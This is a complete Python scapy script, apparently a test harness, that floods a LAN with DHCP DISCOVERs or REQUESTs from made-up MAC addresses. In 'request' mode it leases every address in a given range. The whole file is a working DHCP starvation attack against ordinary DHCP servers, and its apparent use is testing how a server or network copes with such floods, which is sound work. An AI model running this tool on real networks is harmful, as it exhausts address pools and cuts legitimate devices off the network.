"""DHCP floods from made-up MAC addresses (a broken or hostile LAN device), sent with scapy from a LAN device
(run with Debian's /usr/bin/python3):

    dhcp_flood.py IFACE discover COUNT      DISCOVERs that are never followed by a REQUEST
    dhcp_flood.py IFACE request FIRST LAST  one REQUEST for each address FIRST..LAST, each from a new MAC: every
                                            address of the range leased (what a full DORA flood ends with)
"""
import ipaddress
import random
import sys

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, sendp

conf.verb = 0
iface, mode = sys.argv[1], sys.argv[2]
rng = random.Random(14)


def packet(options):
    mac = bytes([0x0a] + [rng.randrange(256) for _ in range(5)])
    text = ":".join(f"{b:02x}" for b in mac)
    return (
        Ether(src=text, dst="ff:ff:ff:ff:ff:ff")
        / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67)
        / BOOTP(chaddr=mac, xid=rng.randrange(1 << 32), flags=0x8000)
        / DHCP(options=options + ["end"])
    )


if mode == "discover":
    count = int(sys.argv[3])
    packets = [packet([("message-type", "discover")]) for _ in range(count)]
    what = f"{count} DISCOVERs"
else:
    first, last = (int(ipaddress.IPv4Address(a)) for a in sys.argv[3:5])
    addresses = [str(ipaddress.IPv4Address(a)) for a in range(first, last + 1)]
    packets = [packet([("message-type", "request"), ("requested_addr", a)]) for a in addresses]
    what = f"{len(packets)} REQUESTs"
sendp(packets, iface=iface, inter=0.002)
print(f"sent {what} from {len(packets)} made-up MAC addresses")
